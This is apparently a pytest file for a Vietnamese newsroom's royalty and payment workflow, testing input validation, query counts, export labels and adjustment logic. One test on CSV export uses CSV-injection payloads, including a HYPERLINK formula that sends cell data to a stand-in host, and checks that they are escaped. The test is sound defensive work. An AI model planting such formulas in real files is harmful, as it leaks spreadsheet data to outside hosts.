"""Royalty corner cases found in review: malformed input refused (never a 500)."""
import pytest

from tests.conftest import api_token, bearer


@pytest.fixture
def board(make, client):
    site = make.site("tinh", kind="portal", approval_levels=2)
    people = {
        "admin": make.user("quantri", is_admin=True),
        "ketoan": make.user("ketoan", roles={site: ["accountant"]}),
        "lanhdao": make.user("lanhdao", roles={site: ["approver"]}),
        "bientap": make.user("bientap", roles={site: ["editor"]}),
        "x": make.user("ctv_x", roles={site: ["contributor"]}),
    }
    h = {name: bearer(api_token(client, user.username)) for name, user in people.items()}
    return {"site": site, "h": h}


def _part(**over):
    return {"genre": "tin_anh", "payees": [{"username": "ctv_x", "share": "100"}], **over}


@pytest.mark.parametrize("grading", [
    {"parts": [_part(factors=[{"code": "translation", "value": "0.5", "reason": 5}])]},
    {"parts": [_part(factors=[{"code": "translation", "value": "0.5", "reason": ["x"]}])]},
    {"parts": [_part(payees=[{"payee_id": 10 ** 30, "share": "100"}])]},
    {"parts": [_part(payees=[{"payee_id": True, "share": "100"}])]},
    {"parts": [_part(payees=[{"name": ["x"], "share": "100"}])]},
    {"parts": [_part(payees=[{"name": "Người ngoài", "pen_name": 7, "share": "100"}])]},
    {"parts": [_part(payees=[{"username": ["ctv_x"], "share": "100"}])]},
    {"parts": [_part(payees=[{"payee_id": "²", "share": "100"}])]},
], ids=["reason-int", "reason-list", "payee-id-huge", "payee-id-bool", "name-list", "pen-name-int", "username-list", "payee-id-superscript"])
def test_malformed_grading_values_are_refused_with_422(client, board, grading):
    quote = client.post("/api/v1/royalty/quote", json={"site": "tinh", "grading": grading},
                        headers=board["h"]["bientap"])
    assert quote.status_code == 422, quote.get_json()
    assert quote.get_json()["error"]["code"] == "invalid_grading"
    item = {"external_id": "e1", "content_type": "tin", "category": "van-ban", "title": "T",
            "author_username": "ctv_x", "published_at": "2025-03-10T09:00:00+07:00", "grading": grading}
    imported = client.post("/api/v1/admin/sites/tinh/import", json={"items": [item]}, headers=board["h"]["admin"])
    assert imported.status_code == 422, imported.get_json()
    assert imported.get_json()["error"]["details"]["errors"][0]["index"] == 0


@pytest.mark.parametrize("part", [
    _part(genre="tin_tong_hop", coefficient="1.23456"),
    _part(genre="binh_luan", coefficient="2.5",
          factors=[{"code": "translation", "value": "0.50001", "reason": "Bản dịch"}]),
], ids=["coefficient", "adjustment"])
def test_more_decimals_than_the_grading_keeps_are_refused(client, board, part):
    """Gradings keep four decimals (Numeric(8, 4)): a quote priced with a fifth would differ from the
    sheet, which prices the stored, rounded value (1.23456 × 234,000 = 288,887 but 1.2346 × 234,000 = 288,896)."""
    quote = client.post("/api/v1/royalty/quote", json={"site": "tinh", "on": "2025-03-10", "grading": {"parts": [part]}},
                        headers=board["h"]["bientap"])
    assert quote.status_code == 422, quote.get_json()
    assert quote.get_json()["error"]["code"] == "invalid_grading"


def test_computing_a_sheet_with_fee_rules_costs_the_same_queries_for_5_or_20_items(client, board):
    """No N+1 when a site pays fees: the unit value of a day is read once per computation, not per item."""
    from datetime import date
    from decimal import Decimal

    from sqlalchemy import event

    from bbt_workflow.extensions import db
    from bbt_workflow.royalties.models import FeeRule

    h = board["h"]
    db.session.add(FeeRule(site_id=board["site"].id, role="provider", kind="coefficient", value=Decimal("0.5"),
                           effective_from=date(2020, 1, 1), source_text="QĐ của Ban Biên tập"))
    db.session.commit()

    def item(i):
        return {"external_id": f"f-{i}", "content_type": "tin", "category": "van-ban", "title": f"Tin {i}",
                "author_username": "ctv_x", "published_at": "2025-03-10T09:00:00+07:00",
                "grading": {"parts": [_part()], "provider": {"username": "bientap"}}}

    def import_items(numbers):
        response = client.post("/api/v1/admin/sites/tinh/import", json={"items": [item(i) for i in numbers]},
                               headers=h["admin"])
        assert response.status_code == 200, response.get_json()

    def queries_to_recompute(sheet):
        count = [0]

        def count_it(*args):
            count[0] += 1

        event.listen(db.engine, "before_cursor_execute", count_it)
        try:
            response = client.post(f"/api/v1/royalty/sheets/{sheet['id']}/transitions",
                                   json={"action": "recompute", "version": sheet["version"]}, headers=h["ketoan"])
        finally:
            event.remove(db.engine, "before_cursor_execute", count_it)
        assert response.status_code == 200, response.get_json()
        return count[0], response.get_json()

    sheet = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-03"},
                        headers=h["ketoan"]).get_json()
    import_items(range(5))  # each measured recompute finds new items and changes the totals
    few, sheet = queries_to_recompute(sheet)
    fees = [line for line in sheet["lines"] if line["kind"] == "fee"]
    assert len(fees) == 5 and all(line["amount"] == 117_000 for line in fees)  # 0.5 × 234,000
    import_items(range(5, 20))
    many, sheet = queries_to_recompute(sheet)
    assert len([line for line in sheet["lines"] if line["kind"] == "fee"]) == 20
    assert many == few, (few, many)


def test_a_sheet_computed_from_an_english_page_still_has_vietnamese_line_labels(client, board):
    """The labels stored on the lines go into the Vietnamese accounting document (XLSX/CSV): they do
    not depend on the language of the accountant who pressed recompute."""
    from datetime import date
    from decimal import Decimal

    from bbt_workflow.extensions import db
    from bbt_workflow.royalties.models import FeeRule

    h = board["h"]
    db.session.add(FeeRule(site_id=board["site"].id, role="provider", kind="percent", value=Decimal("10"),
                           effective_from=date(2020, 1, 1), source_text="QĐ của Ban Biên tập"))
    db.session.commit()
    item = {"external_id": "en-1", "content_type": "tin", "category": "van-ban", "title": "Tin",
            "author_username": "ctv_x", "published_at": "2025-03-10T09:00:00+07:00",
            "grading": {"parts": [_part()], "provider": {"username": "bientap"}}}
    assert client.post("/api/v1/admin/sites/tinh/import", json={"items": [item]},
                       headers=h["admin"]).status_code == 200
    created = client.post("/api/v1/royalty/sheets?lang=en", json={"site": "tinh", "period": "2025-03"},
                          headers=h["ketoan"])
    assert created.status_code == 201, created.get_json()
    [fee] = [line for line in created.get_json()["lines"] if line["kind"] == "fee"]
    assert fee["genre_label"] == "Thù lao cung cấp thông tin" and fee["amount"] == 35_100
    csv = client.get(f"/api/v1/royalty/sheets/{created.get_json()['id']}/export.csv?lang=en", headers=h["ketoan"])
    assert "Thù lao cung cấp thông tin" in csv.data.decode("utf-8-sig") and "Information fee" not in csv.data.decode("utf-8-sig")


def test_the_grading_form_refuses_a_payee_id_that_is_not_a_plain_number(make, client):
    """'²' passes str.isdigit() but not int(): the form shows its error (422), no server error."""
    from datetime import datetime, timezone

    from bbt_workflow.extensions import db
    from bbt_workflow.submissions import services
    from tests.conftest import login
    from tests.forms import action_form

    site = make.site("tinh", kind="portal", approval_levels=2)
    author = make.user("ctv", roles={site: ["contributor"]})
    editor = make.user("bientap", roles={site: ["editor"]})
    sub = services.create_submission(author, site, {
        "content_type": "bai", "title": "Bài", "category": "van-ban", "summary": "Tóm tắt",
        "body_html": "<p>Nội dung</p>", "publish_at": datetime(2030, 1, 2, 1, 30, tzinfo=timezone.utc)})
    services.transition_submission(author, sub, "submit", sub.version)
    services.transition_submission(editor, sub, "claim", sub.version)
    db.session.commit()
    login(client, "bientap")
    fields = action_form(client.get(f"/submissions/{sub.id}").get_data(as_text=True), "forward")
    fields.update({"g-0-p-0-payee_id": "²", "g-0-p-0-username": ""})
    response = client.post(f"/submissions/{sub.id}/act", data=fields)
    assert response.status_code == 422
    db.session.refresh(sub)
    assert sub.state == "in_review"


def test_the_payee_list_costs_the_same_queries_for_5_or_20_users(app, make):
    """No N+1 on the payees page: each row shows its user name and unit."""
    from sqlalchemy import event

    from bbt_workflow.extensions import db
    from tests.conftest import login

    site = make.site("tinh", kind="portal")
    make.user("ketoan", roles={site: ["accountant"]})
    units = [make.unit(f"u{i}", f"Đơn vị {i}") for i in range(20)]
    client = app.test_client()
    login(client, "ketoan")

    def queries():
        count = [0]

        def count_it(*args):
            count[0] += 1

        event.listen(db.engine, "before_cursor_execute", count_it)
        try:
            response = client.get("/admin/payees")
        finally:
            event.remove(db.engine, "before_cursor_execute", count_it)
        assert response.status_code == 200
        return count[0], response.get_data(as_text=True)

    for i in range(5):
        make.user(f"ctv{i}", roles={site: ["contributor"]}, unit=units[i].code)
    few, page = queries()
    assert "ctv4" in page and "Đơn vị 4" in page
    for i in range(5, 20):
        make.user(f"ctv{i}", roles={site: ["contributor"]}, unit=units[i].code)
    many, page = queries()
    assert "ctv19" in page and "Đơn vị 19" in page
    assert many == few, (few, many)


def test_the_csv_export_does_not_hand_excel_a_formula_from_a_title_or_a_name(client, board):
    """Titles and outsider names are typed by contributors and editors: a cell starting with = + - @
    would run as a formula when the accountant opens the CSV in Excel (CSV injection)."""
    import csv
    import io

    h = board["h"]
    item = {"external_id": "inj-1", "content_type": "tin", "category": "van-ban",
            "title": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm")', "author_username": "ctv_x",
            "published_at": "2025-03-10T09:00:00+07:00",
            "grading": {"parts": [_part(payees=[{"name": "@SUM(1+1)", "pen_name": "+cmd", "share": "100"}])]}}
    assert client.post("/api/v1/admin/sites/tinh/import", json={"items": [item]},
                       headers=h["admin"]).status_code == 200
    sheet = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-03"},
                        headers=h["ketoan"]).get_json()
    assert sheet["totals"]["gross"] == 351_000
    response = client.get(f"/api/v1/royalty/sheets/{sheet['id']}/export.csv", headers=h["ketoan"])
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], cells
    assert "'" + item["title"] in cells and "'@SUM(1+1)" in cells  # kept, as text
    assert "351000" in cells  # figures stay numbers


def test_an_item_left_behind_by_a_closed_sheet_is_paid_on_the_next_one(client, board):
    """An item of March that reaches the sheets only after March's sheet was paid (imported late,
    graded late) is on no sheet: the next draft sheet takes it, with March's rules, flagged as late."""
    h = board["h"]

    def item(external_id, day):
        return {"external_id": external_id, "content_type": "tin", "category": "van-ban", "title": external_id,
                "author_username": "ctv_x", "published_at": f"{day}T09:00:00+07:00",
                "grading": {"parts": [_part()]}}

    def act(sheet, action, who):
        response = client.post(f"/api/v1/royalty/sheets/{sheet['id']}/transitions",
                               json={"action": action, "version": sheet["version"]}, headers=h[who])
        assert response.status_code == 200, response.get_json()
        return response.get_json()

    assert client.post("/api/v1/admin/sites/tinh/import", json={"items": [item("on-time", "2025-03-10")]},
                       headers=h["admin"]).status_code == 200
    march = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-03"},
                        headers=h["ketoan"]).get_json()
    march = act(act(act(march, "check", "ketoan"), "approve", "lanhdao"), "pay", "ketoan")
    assert march["totals"]["gross"] == 351_000
    # Published on 20 March, brought in after March was paid; and one published in April.
    assert client.post("/api/v1/admin/sites/tinh/import",
                       json={"items": [item("late", "2025-03-20"), item("april", "2025-04-02")]},
                       headers=h["admin"]).status_code == 200
    april = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-04"},
                        headers=h["ketoan"]).get_json()
    assert sorted(line["title"] for line in april["lines"]) == ["april", "late"]
    assert april["totals"]["gross"] == 2 * 351_000
    [late] = [line for line in april["lines"] if line["title"] == "late"]
    assert late["published_at"].startswith("2025-03-20") and late["unit_value"] == 234_000
    # It is on exactly one sheet: recomputing April, or computing May, does not pay it again.
    april = act(april, "recompute", "ketoan")
    assert april["totals"]["gross"] == 2 * 351_000
    may = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-05"},
                      headers=h["ketoan"]).get_json()
    assert may["lines"] == []


def test_an_import_refusal_says_its_reason_once(client, board):
    item = {"external_id": "e1", "content_type": "tin", "category": "khong-co", "title": "T",
            "author_username": "ctv_x", "published_at": "2025-03-10T09:00:00+07:00", "grading": {"parts": [_part()]}}
    response = client.post("/api/v1/admin/sites/tinh/import", json={"items": [item]}, headers=board["h"]["admin"])
    assert response.status_code == 422
    [error] = response.get_json()["error"]["details"]["errors"]
    assert "khong-co" in error["message"] and error["message"].count("khong-co") == 1, error


def test_a_paid_fee_is_not_taken_back_when_the_approver_later_leaves_the_board(client, board):
    """Adjustments follow changes to a paid item (taken down, regraded), not later changes elsewhere:
    the approver who approved it stops being an approver; their paid approval fee stands."""
    from datetime import timedelta
    from decimal import Decimal

    from sqlalchemy import delete, select

    from bbt_workflow.accounts.models import Membership, MembershipRole
    from bbt_workflow.db_types import utcnow
    from bbt_workflow.domain.royalty_rules import local_date
    from bbt_workflow.extensions import db
    from bbt_workflow.royalties.models import FeeRule
    from tests.conftest import simple_grading

    h = board["h"]
    db.session.add(FeeRule(site_id=board["site"].id, role="approver", kind="percent", value=Decimal("10"),
                           effective_from=local_date(utcnow()) - timedelta(days=400), source_text="QĐ của BBT"))
    db.session.commit()
    sub = client.post("/api/v1/submissions", json={
        "site": "tinh", "category": "van-ban", "content_type": "tin", "title": "Tin có ảnh",
        "summary": "", "body_html": "<p>Nội dung</p>"}, headers=h["x"]).get_json()
    for who, action, extra in (("x", "submit", {}), ("bientap", "claim", {}),
                               ("bientap", "forward", {"grading": simple_grading("ctv_x")}), ("lanhdao", "approve", {})):
        response = client.post(f"/api/v1/submissions/{sub['id']}/transitions",
                               json={"action": action, "version": sub["version"], **extra}, headers=h[who])
        assert response.status_code == 200, response.get_json()
        sub = response.get_json()
    assert sub["state"] == "published"
    month = local_date(utcnow()).replace(day=1)
    sheet = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": f"{month:%Y-%m}"},
                        headers=h["ketoan"]).get_json()
    [fee] = [line for line in sheet["lines"] if line["kind"] == "fee"]
    assert fee["amount"] > 0 and fee["amount"] * 10 == sheet["totals"]["gross"] - fee["amount"]  # 10% of the royalty
    for action, who in (("check", "ketoan"), ("approve", "lanhdao"), ("pay", "ketoan")):
        response = client.post(f"/api/v1/royalty/sheets/{sheet['id']}/transitions",
                               json={"action": action, "version": sheet["version"]}, headers=h[who])
        assert response.status_code == 200, response.get_json()
        sheet = response.get_json()
    # The approver leaves the board.
    lanhdao = db.session.scalar(select(Membership.id).join(Membership.user).where(
        Membership.site_id == board["site"].id, Membership.user.has(username="lanhdao")))
    db.session.execute(delete(MembershipRole).where(MembershipRole.membership_id == lanhdao))
    db.session.commit()
    following = (month + timedelta(days=32)).replace(day=1)
    later = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": f"{following:%Y-%m}"},
                        headers=h["ketoan"]).get_json()
    assert later["lines"] == [], later["lines"]


def test_a_regrading_after_the_sheet_was_checked_becomes_an_adjustment_once_it_is_paid(client, board):
    """A checked sheet's lines stand as computed: a regrading between check and payment is paid
    as an adjustment on the next sheet."""
    h = board["h"]
    item = {"external_id": "rg-1", "content_type": "bai", "category": "van-ban", "title": "Bài",
            "author_username": "ctv_x", "published_at": "2025-03-12T09:00:00+07:00",
            "grading": {"parts": [_part(genre="bai_phan_anh", coefficient="2.0")]}}
    assert client.post("/api/v1/admin/sites/tinh/import", json={"items": [item]},
                       headers=h["admin"]).status_code == 200
    march = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-03"},
                        headers=h["ketoan"]).get_json()

    def act(sheet, action, who):
        response = client.post(f"/api/v1/royalty/sheets/{sheet['id']}/transitions",
                               json={"action": action, "version": sheet["version"]}, headers=h[who])
        assert response.status_code == 200, response.get_json()
        return response.get_json()

    march = act(march, "check", "ketoan")
    assert march["totals"]["gross"] == 468_000  # 2.0 × 234,000
    sub_id = march["lines"][0]["submission_id"]
    version = client.get(f"/api/v1/submissions/{sub_id}", headers=h["lanhdao"]).get_json()["version"]
    regraded = client.put(f"/api/v1/submissions/{sub_id}/grading", headers=h["lanhdao"], json={
        "version": version, "grading": {"parts": [_part(genre="bai_phan_anh", coefficient="2.2")]}})
    assert regraded.status_code == 200, regraded.get_json()
    march = act(act(march, "approve", "lanhdao"), "pay", "ketoan")
    assert march["totals"]["gross"] == 468_000  # as checked
    april = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-04"},
                        headers=h["ketoan"]).get_json()
    assert [(line["kind"], line["amount"]) for line in april["lines"]] == [("adjustment", 46_800)]  # 0.2 × 234,000


def test_the_fund_check_counts_a_fee_adjustment_as_a_fee(client, board):
    """A paid item regraded: the royalty and the fee each get an adjustment line; the yearly fund
    check adds the fee's to the fees, not to the royalties."""
    from datetime import date
    from decimal import Decimal

    from bbt_workflow.extensions import db
    from bbt_workflow.royalties.models import FeeRule

    h = board["h"]
    db.session.add(FeeRule(site_id=board["site"].id, role="provider", kind="percent", value=Decimal("10"),
                           effective_from=date(2020, 1, 1), source_text="QĐ của BBT"))
    db.session.commit()
    grading = {"parts": [_part(genre="bai_phan_anh", coefficient="2.0")], "provider": {"username": "bientap"}}
    item = {"external_id": "fund-1", "content_type": "bai", "category": "van-ban", "title": "Bài",
            "author_username": "ctv_x", "published_at": "2025-03-12T09:00:00+07:00", "grading": grading}
    assert client.post("/api/v1/admin/sites/tinh/import", json={"items": [item]},
                       headers=h["admin"]).status_code == 200
    sheet = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-03"},
                        headers=h["ketoan"]).get_json()
    for action, who in (("check", "ketoan"), ("approve", "lanhdao"), ("pay", "ketoan")):
        sheet = client.post(f"/api/v1/royalty/sheets/{sheet['id']}/transitions",
                            json={"action": action, "version": sheet["version"]}, headers=h[who]).get_json()
    sub_id = sheet["lines"][0]["submission_id"]
    version = client.get(f"/api/v1/submissions/{sub_id}", headers=h["lanhdao"]).get_json()["version"]
    regraded = dict(grading, parts=[_part(genre="bai_phan_anh", coefficient="2.5")])
    assert client.put(f"/api/v1/submissions/{sub_id}/grading", headers=h["lanhdao"],
                      json={"version": version, "grading": regraded}).status_code == 200
    april = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-04"},
                        headers=h["ketoan"]).get_json()
    assert sorted(line["amount"] for line in april["lines"]) == [11_700, 117_000]  # 0.5 × 234,000 and its 10%
    fund = client.get("/api/v1/royalty/fund-check?site=tinh&year=2025", headers=h["ketoan"]).get_json()
    assert (fund["royalties"], fund["fees"]) == (468_000 + 117_000, 46_800 + 11_700), fund
